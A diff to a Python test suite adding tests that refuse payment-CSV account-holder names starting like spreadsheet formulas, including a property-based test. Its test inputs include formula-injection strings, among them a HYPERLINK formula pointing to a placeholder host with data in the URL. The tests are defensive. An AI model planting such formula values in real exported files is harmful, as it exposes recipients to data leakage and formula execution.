@@ -1,6 +1,7 @@
 """Field validators: each accepts and normalises good input, and refuses bad input naming the
 field and the rule (kidb_tui/validation.py)."""
 
+import unicodedata
 from datetime import date
 
 import pytest
@@ -206,6 +207,34 @@ def test_holder_name_of_someone_else_is_refused(typed):
     assert error.params == {"name": "Siti Rahayu"}
 
 
+@pytest.mark.parametrize("typed", [
+    "=Siti Rahayu", "+Siti Rahayu", "-Siti Rahayu", "@Siti Rahayu", "  =Siti Rahayu", "＝Siti Rahayu", "＠Siti Rahayu",
+    '=HYPERLINK("http://x.example/?q=Siti","Siti Rahayu")', "-2+3 Siti Rahayu",
+])
+def test_holder_name_starting_like_a_formula_is_refused(typed):
+    """The holder ends up in the payments CSV: a leading =, +, - or @ (also full-width, also
+    after spaces) would run as a spreadsheet formula, even when the letters match the name."""
+    error = assert_refused(validation.account_holder, [typed, "Siti Rahayu"], "account_holder", "formula_start")
+    assert error.params == {}
+
+
+@pytest.mark.parametrize("typed", ["\tSiti Rahayu", "\rSiti Rahayu"])
+def test_holder_name_starting_with_tab_or_cr_is_refused(typed):
+    assert_refused(validation.account_holder, [typed, "Siti Rahayu"], "account_holder", "control_characters")
+
+
+@PROPERTY
+@given(st.text(alphabet="=+-@＝＋－＠ .'", min_size=1, max_size=4), st.text(alphabet=" .'-", max_size=3))
+def test_a_holder_is_refused_exactly_when_it_starts_like_a_formula(lead, tail):
+    formula = (unicodedata.normalize("NFKC", lead).lstrip() or "S")[0] in "=+-@"
+    try:
+        holder = validation.account_holder(f"{lead}Siti{tail}", "Siti")
+    except ValidationError as error:
+        assert formula and (error.field, error.rule) == ("account_holder", "formula_start")
+        return
+    assert not formula and holder[0] not in "=+-@"
+
+
 def test_text_is_nfkc_normalised_and_spaces_folded():
     assert validation.address("  Jl.\u00a0Merdeka   No.\u2002１０ ") == "Jl. Merdeka No. 10"
     assert validation.full_name("ﬁtri Ｒａｈａｙｕ") == "fitri Rahayu"
@@ -261,9 +290,11 @@ def test_clean_text_is_idempotent(text):
 
 
 @PROPERTY
-@given(st.lists(st.sampled_from([" ", ".", "-", ",", "'"]), min_size=4, max_size=4), st.booleans())
-def test_any_punctuation_and_case_variant_of_the_name_matches(separators, upper):
+@given(st.sampled_from([" ", ".", ",", "'"]),
+       st.lists(st.sampled_from([" ", ".", "-", ",", "'"]), min_size=3, max_size=3), st.booleans())
+def test_any_punctuation_and_case_variant_of_the_name_matches(lead, separators, upper):
+    """Any punctuation between and after the words; before them, any but a formula sign."""
     words = ["Siti", "Nur", "Rahayu"]
-    typed = separators[0] + "".join(w + s for w, s in zip(words, separators[1:], strict=True))
+    typed = lead + "".join(w + s for w, s in zip(words, separators, strict=True))
     typed = typed.upper() if upper else typed.lower()
     assert validation.account_holder(typed, "Siti Nur Rahayu") == " ".join(typed.split())
